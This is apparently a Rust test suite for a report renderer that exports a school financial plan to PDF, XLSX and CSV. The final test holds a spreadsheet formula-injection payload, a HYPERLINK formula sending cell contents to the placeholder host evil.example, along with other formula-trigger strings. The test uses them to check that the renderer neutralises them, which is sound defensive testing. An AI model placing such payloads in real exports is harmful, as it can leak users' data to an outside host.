//! The shared report renderer: PDF pages and text, XLSX parts and values, CSV.

use std::io::Read;

use chrono::NaiveDate;
use frontline_platform::report::*;

fn years() -> Vec<String> {
    (2023..=2052).map(|y| y.to_string()).collect()
}

fn sample() -> Report {
    let mut table =
        Table::new(["Year", "Revenue", "Rent", "Rent load", "Date"]).titled("Year by year");
    for (i, y) in (2023..=2052).enumerate() {
        table.push(vec![
            Cell::text(y.to_string()),
            Cell::currency(16_800_000.0 + i as f64 * 100_000.0, "SAR"),
            Cell::currency(3_330_000.0, "SAR"),
            Cell::percent(0.198, 1),
            Cell::date(NaiveDate::from_ymd_opt(y, 12, 31).unwrap()),
        ]);
    }
    let revenue: Vec<f64> = (0..30)
        .map(|i| 10_000_000.0 + i as f64 * 500_000.0)
        .collect();
    let ebitda: Vec<f64> = (0..30)
        .map(|i| -1_000_000.0 + i as f64 * 200_000.0)
        .collect();
    Report::new("Executive summary: Base case")
        .subtitle("School financial plan 2023-2052")
        .meta("Period", "2023-2052")
        .meta("Generated at", "2026-11-23 09:00 UTC")
        .section(
            Section::new("Key metrics")
                .paragraph("The plan projects revenue, rent and EBITDA over thirty years.")
                .key_figures(vec![
                    KeyFigure::new("NPV of rent", Cell::currency(41_234_567.0, "SAR")),
                    KeyFigure::new("Average rent load", Cell::percent(0.198, 1)),
                    KeyFigure::new("Breakeven year", Cell::text("2027")),
                    KeyFigure::new("Students 2028", Cell::int(2100.0)),
                ])
                .chart(
                    Chart::line("Revenue and EBITDA", years())
                        .series("Revenue", revenue.clone())
                        .series("EBITDA", ebitda),
                )
                .chart(Chart::bar("Revenue by year", years()).series("Revenue", revenue)),
        )
        .section(Section::new("Projection").table(table))
}

fn pdf_page_count(pdf: &[u8]) -> usize {
    let s = String::from_utf8_lossy(pdf).replace("/Type /Page", "/Type/Page");
    s.match_indices("/Type/Page")
        .filter(|(i, _)| !s[i + 10..].starts_with('s'))
        .count()
}

#[test]
fn pdf_has_title_page_sections_and_paginated_table() {
    let report = sample();
    let layout = report.pdf_layout();
    // Title page, key metrics (figures and two charts), projection table.
    assert_eq!(layout.page_of("Executive summary: Base case"), Some(0));
    assert!(layout.contains_text("Generated at"));
    let metrics_page = layout.page_of("Key metrics").unwrap();
    assert_eq!(metrics_page, 1);
    assert!(layout.contains_text("SAR 41,234,567"));
    assert!(layout.contains_text("19.8%"));
    assert!(
        layout.pages.iter().map(PdfPage::polylines).sum::<usize>() >= 2,
        "a line per series"
    );
    assert!(layout.contains_text("2052"));
    let table_page = layout.page_of("Year by year").unwrap();
    assert!(table_page > metrics_page);
    // 30 rows fit on one page; a 100-row table continues with its header repeated.
    let mut big = Table::new(["N", "Value"]).titled("Long");
    for i in 0..100 {
        big.push(vec![Cell::int(i as f64), Cell::decimal(i as f64 / 3.0, 2)]);
    }
    let long = Report::new("Long").section(Section::new("Data").table(big));
    let ll = long.pdf_layout();
    assert_eq!(ll.pages.len(), 4, "title + 3 pages of rows");
    assert!(ll.pages[2].texts().contains(&"Long (continued)"));
    assert!(ll.pages[2].texts().contains(&"Value"));
    assert!(ll.pages[3].texts().contains(&"99"));
    assert!(ll.pages[3].texts().contains(&"Page 4 of 4"));

    let pdf = report.to_pdf().unwrap();
    assert!(pdf.starts_with(b"%PDF"));
    assert_eq!(pdf_page_count(&pdf), layout.pages.len());
    assert!(
        String::from_utf8_lossy(&pdf).contains("Executive summary: Base case"),
        "document title in the metadata"
    );
    let long_pdf = long.to_pdf().unwrap();
    assert_eq!(pdf_page_count(&long_pdf), 4);
}

fn zip_entry(xlsx: &[u8], name: &str) -> Option<String> {
    let mut z = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).unwrap();
    let mut f = z.by_name(name).ok()?;
    let mut s = String::new();
    f.read_to_string(&mut s).unwrap();
    Some(s)
}

#[test]
fn xlsx_has_sheets_numbers_formats_and_native_charts() {
    let xlsx = sample().to_xlsx().unwrap();
    assert!(xlsx.starts_with(b"PK"));
    let workbook = zip_entry(&xlsx, "xl/workbook.xml").unwrap();
    for name in ["Cover", "Key metrics", "Projection"] {
        assert!(
            workbook.contains(&format!("name=\"{name}\"")),
            "{name} sheet"
        );
    }
    let chart1 = zip_entry(&xlsx, "xl/charts/chart1.xml").unwrap();
    assert!(chart1.contains("<c:lineChart>"));
    let chart2 = zip_entry(&xlsx, "xl/charts/chart2.xml").unwrap();
    assert!(chart2.contains("<c:barChart>"));
    let styles = zip_entry(&xlsx, "xl/styles.xml").unwrap();
    assert!(styles.contains("0.0%"));
    assert!(styles.contains("&quot;SAR&quot; #,##0"));
    // Numbers are numbers: the projection sheet stores 16800000 as a value, not a string.
    let sheet3 = zip_entry(&xlsx, "xl/worksheets/sheet3.xml").unwrap();
    assert!(sheet3.contains("<v>16800000</v>"));
    assert!(sheet3.contains("<v>0.198</v>"));
}

#[test]
fn csv_has_raw_numbers() {
    let t =
        Table::new(["Year", "Rent load"]).row(vec![Cell::text("2028"), Cell::percent(0.198, 1)]);
    let csv = String::from_utf8(t.to_csv().unwrap()).unwrap();
    assert_eq!(csv, "Year,Rent load\n2028,0.198\n");
    let all = String::from_utf8(sample().to_csv().unwrap()).unwrap();
    assert!(all
        .starts_with("Year,Revenue,Rent,Rent load,Date\n2023,16800000,3330000,0.198,2023-12-31\n"));
}

#[test]
fn empty_and_odd_input_renders() {
    let r = Report::new("").section(
        Section::new("[Odd]: name?")
            .table(Table::new(Vec::<String>::new()))
            .chart(Chart::line("Empty", vec![]))
            .chart(Chart::bar("NaN", vec!["a".into()]).series("x", vec![f64::NAN]))
            .key_figures(vec![]),
    );
    assert!(r.to_pdf().unwrap().starts_with(b"%PDF"));
    assert!(r.to_xlsx().unwrap().starts_with(b"PK"));
    assert!(r.to_csv().is_ok());
}

/// Issue 23 #2: text that looks like a formula is neutralised in CSV (each
/// trigger character), stays a number when it is one, and is a string — never
/// a formula — in XLSX.
#[test]
fn formula_text_never_runs() {
    let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    let mut t = Table::new(["Queue", "Calls"]);
    for cell in [evil, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"] {
        t.push(vec![Cell::text(cell), Cell::int(-3.0)]);
    }
    let csv = String::from_utf8(t.to_csv().unwrap()).unwrap();
    let mut rows = csv::ReaderBuilder::new()
        .from_reader(csv.as_bytes())
        .into_records()
        .map(|r| r.unwrap());
    for cell in [evil, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"] {
        let row = rows.next().unwrap();
        assert_eq!(&row[0], format!("'{cell}"), "{csv}");
        assert_eq!(&row[1], "-3", "numbers stay numbers");
    }
    let xlsx = Report::new("Queues")
        .section(Section::new("Queues").table(t))
        .to_xlsx()
        .unwrap();
    let mut sheets = String::new();
    let mut z = zip::ZipArchive::new(std::io::Cursor::new(&xlsx)).unwrap();
    for i in 0..z.len() {
        let mut f = z.by_index(i).unwrap();
        if f.name().starts_with("xl/worksheets/") {
            f.read_to_string(&mut sheets).unwrap();
        }
    }
    assert!(!sheets.contains("<f>"), "no formula cells: {sheets}");
    let strings = zip_entry(&xlsx, "xl/sharedStrings.xml").unwrap();
    assert!(strings.contains("=HYPERLINK("), "{strings}");
}
